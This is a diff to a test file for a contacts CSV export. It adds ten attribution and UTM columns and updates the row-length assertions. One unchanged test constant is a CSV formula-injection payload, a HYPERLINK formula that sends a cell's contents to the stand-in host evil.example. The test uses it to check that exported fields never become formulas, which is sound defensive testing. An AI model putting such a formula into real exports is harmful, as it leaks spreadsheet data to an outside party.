@@ -1,5 +1,5 @@
 /**
- * The contacts CSV export as spreadsheets read it (issue #11 §2): RFC 4180 quoting of line breaks,
+ * The contacts CSV export as spreadsheets read it (decision 020): RFC 4180 quoting of line breaks,
  * phones that open as typed, no formula from any field, a Created cell that is a date, checked with
  * Python's `csv` module and by LibreOffice Calc itself; then 100,000 contacts streamed in order
  * with flat memory.
@@ -34,6 +34,16 @@ const HEADER = [
   'Message',
   'Notes',
   'Created (UTC)',
+  'Source',
+  'Referrer',
+  'UTM source',
+  'UTM medium',
+  'UTM campaign',
+  'UTM term',
+  'UTM content',
+  'Landing path',
+  'First view (UTC)',
+  'Device',
 ];
 const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
 
@@ -97,7 +107,7 @@ describe('CSV export read by spreadsheets', () => {
     const records = parseCsvWithPython(csv);
     expect(records[0]).toEqual(HEADER);
     expect(records).toHaveLength(5);
-    for (const record of records) expect(record).toHaveLength(9);
+    for (const record of records) expect(record).toHaveLength(HEADER.length);
     expect(records.slice(1).map((r) => Number(r[0]))).toEqual(ids);
     const byEmail = new Map(records.slice(1).map((r) => [r[2], r]));
     expect(byEmail.get('sheet-formula@example.com')).toEqual([
@@ -110,8 +120,11 @@ describe('CSV export read by spreadsheets', () => {
       'Line one\nLine two, with a comma and "quotes"',
       'First note line\r\nSecond note line',
       '2026-11-23 10:00:00',
+      // No recorded first touch: the source is '(direct)' and its details are empty.
+      '(direct)',
+      ...Array(9).fill(''),
     ]);
-    expect(byEmail.get('sheet-ana@example.com')?.slice(3)).toEqual([
+    expect(byEmail.get('sheet-ana@example.com')?.slice(3, 9)).toEqual([
       '(555) 123-4567',
       'new',
       'no',
